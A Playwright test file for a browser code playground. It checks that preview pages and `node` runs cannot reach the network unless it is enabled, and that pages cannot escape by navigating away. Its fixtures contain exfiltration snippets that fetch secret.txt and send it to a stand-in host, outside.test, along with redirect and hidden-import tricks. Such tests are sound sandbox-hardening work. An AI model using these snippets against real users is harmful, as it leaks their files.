// What a project's own code can reach in Chromium, in the preview and by `node`,
// and what happens when the preview's page goes elsewhere or is closed.

import assert from "node:assert/strict";
import { test } from "node:test";
import { chosen, create, editorText, file, playground, preview, ready, saved, shows, terminal } from "./playground-support.mjs";

const { open, url } = playground();

/** What reaches an address outside; the project may be asked there for anything. */
const OUTSIDE = "https://outside.test";

/** A project with a file and a page, in the preview, and what left the browser for `OUTSIDE`. */
async function shown(t, script, { tick = false, ...options } = {}) {
  const opened = await open(t, options);
  const { page, context } = opened;
  const seen = [];
  await context.route(`${OUTSIDE}/**`, (route) => {
    seen.push(new URL(route.request().url()).search);
    return route.fulfill({ headers: { "access-control-allow-origin": "*" }, contentType: "text/html", body: "outside" });
  });
  await create(page, "page");
  await chosen(page, "Import files or archives…", [file("secret.txt", "secret-42"), file("index.html", `<p>project</p><script>${script}</script>`)]);
  await page.click(".preview-toggle");
  if (tick) await page.check(".preview input[type=checkbox]");
  return { ...opened, seen };
}

/** Tells the console of the preview when all was tried. */
const SEND = `const send = async () => {
  const text = await fetch("secret.txt").then((answer) => answer.text());
  await fetch("${OUTSIDE}/?" + text).then(() => console.log("sent"), () => console.log("kept"));
};`;

/** Opens the preview, if it is not. */
async function look(page) {
  await page.waitForSelector(".preview-toggle");
  if ((await page.getAttribute(".preview-toggle", "aria-pressed")) !== "true") await page.click(".preview-toggle");
}

async function told(page, text) {
  await page.waitForSelector(`.console:has-text("${text}")`);
}

test("a page reaches the network when that is ticked, and only then", async (t) => {
  // Again and again: the route comes to a new frame some time after the frame.
  const { page, seen } = await shown(t, `${SEND} setInterval(send, 200);`);
  await told(page, "kept");
  assert.deepEqual(seen, []);
  await page.check(".preview input[type=checkbox]");
  await told(page, "sent");
  assert.deepEqual([...new Set(seen)], ["?secret-42"]);
});

// A page once took the files into the document that has the network.
for (const [name, go] of [
  ["the document with the network", (base) => `location.replace("${base}preview-online.html")`],
  ["the document without it", (base) => `location.replace("${base}preview.html?secret-42")`],
  ["the playground", (base) => `location.replace("${base}?secret-42")`],
  ["another site", () => `location.replace("${OUTSIDE}/?secret-42")`],
  ["another site, at once", () => `} , 0); location.replace("${OUTSIDE}/?secret-42"); setTimeout(() => {`],
  ["another site, by a link", () => `const a = document.createElement("a"); a.href = "${OUTSIDE}/?secret-42"; document.body.append(a); a.click()`],
  ["a frame of its own", (base) => `document.body.append(Object.assign(document.createElement("iframe"), { src: "${base}preview-online.html" }))`],
]) {
  test(`a page cannot go to ${name}`, async (t) => {
    const asked = [];
    const { page, seen } = await shown(t, `console.log("begins"); setTimeout(() => { ${go(url())} }, 50); ${SEND} setTimeout(send, 500)`);
    page.on("request", (request) => asked.push(request.url()));
    await told(page, "begins");
    const elsewhere = name !== "a frame of its own";
    if (elsewhere) await page.waitForSelector(".preview-place:has-text('The page went to another address.')");
    else await told(page, "kept");
    assert.deepEqual(seen, []);
    assert.deepEqual(asked.filter((address) => address.includes("secret") || address.includes("online")), []);
    if (!elsewhere) return;
    assert.equal(await page.locator(".preview iframe").isVisible(), false);
    if (name.endsWith("at once")) return;
    await page.click("text=Show the page again");
    await page.waitForSelector(".preview-place:not(:has-text('The page went'))");
    await told(page, "begins");
  });
}

test("a page may load itself again, and places in it are found", async (t) => {
  const script = `
    if (!location.hash) { location.hash = "second"; location.reload(); }
    else { const a = document.createElement("a"); a.href = "#third"; document.body.append(a); a.click(); setTimeout(() => console.log(location.hash), 50); }`;
  const { page } = await shown(t, script);
  await told(page, "#third");
  assert.equal(await page.locator(".preview iframe").isVisible(), true);
});

test("the network is for one project, not for the next one or a run", async (t) => {
  const { page } = await shown(t, "", { tick: true });
  const box = page.locator(".preview input[type=checkbox]");
  assert.equal(await box.isChecked(), true);
  await create(page, "stranger");
  await chosen(page, "Import files or archives…", [file("index.html", `<script>${SEND} send()</script>`), file("secret.txt", "x")]);
  await page.waitForSelector(".preview-toggle");
  await look(page);
  await told(page, "kept");
  assert.equal(await box.isChecked(), false);
  await saved(page);
  await page.reload();
  await ready(page);
  await look(page);
  await told(page, "kept");
  assert.equal(await box.isChecked(), false);
});

test("a page has no WebRTC of its own without the network", async (t) => {
  const { page } = await shown(t, "console.log('rtc: ' + typeof RTCPeerConnection)");
  await told(page, "rtc: undefined");
  await page.check(".preview input[type=checkbox]");
  await told(page, "rtc: function");
});

test("a page that goes on talking ends with the preview", async (t) => {
  const { page } = await shown(t, "setInterval(() => alert('again'), 100)");
  let count = 0;
  const second = new Promise((resolve) => page.on("dialog", async (dialog) => {
    count += 1;
    if (count >= 2) resolve();
    await dialog.dismiss().catch(() => {});
  }));
  await second;
  await page.evaluate(() => document.querySelector(".preview-toggle").click());
  await page.waitForFunction(() => document.querySelector(".preview iframe") === null);
  const before = count;
  // Longer than several turns of the page's.
  await terminal(page, "sleep 1; echo over");
  await shows(page, "over");
  assert.ok(count <= before + 1, `${count - before} more`);
  await page.click(".preview-toggle");
  await preview(page).locator("text=project").waitFor();
});

test("`node` reaches no network, also by an import that it hides", async (t) => {
  const { page, context } = await open(t);
  const seen = [];
  await context.route(`${OUTSIDE}/**`, (route) => {
    seen.push(route.request().url());
    return route.fulfill({ headers: { "access-control-allow-origin": "*" }, contentType: "text/javascript", body: "export default 1" });
  });
  await create(page, "code");
  await chosen(page, "Import files or archives…", [file("a.js", `
    const attempts = {
      "import": () => new Function("u", "return import(u)")("${OUTSIDE}/import"),
      "eval": () => (0, eval)("import('${OUTSIDE}/eval')"),
      "font": () => new FontFace("x", "url(${OUTSIDE}/font)").load(),
    };
    const names = Object.keys(attempts);
    Promise.allSettled(names.map((name) => attempts[name]())).then((results) => {
      console.log(results.map(({ status }, at) => names[at] + " " + status).join(", ") + ", the rest works: " + [6 * 7, eval("1 + 1")]);
    });`)]);
  await terminal(page, "node a.js > told.txt 2>&1");
  await page.click('.tree [data-path="told.txt"]');
  assert.equal((await editorText(page)).trim(), "import rejected, eval rejected, font rejected, the rest works: 42,2");
  assert.deepEqual(seen, []);
});
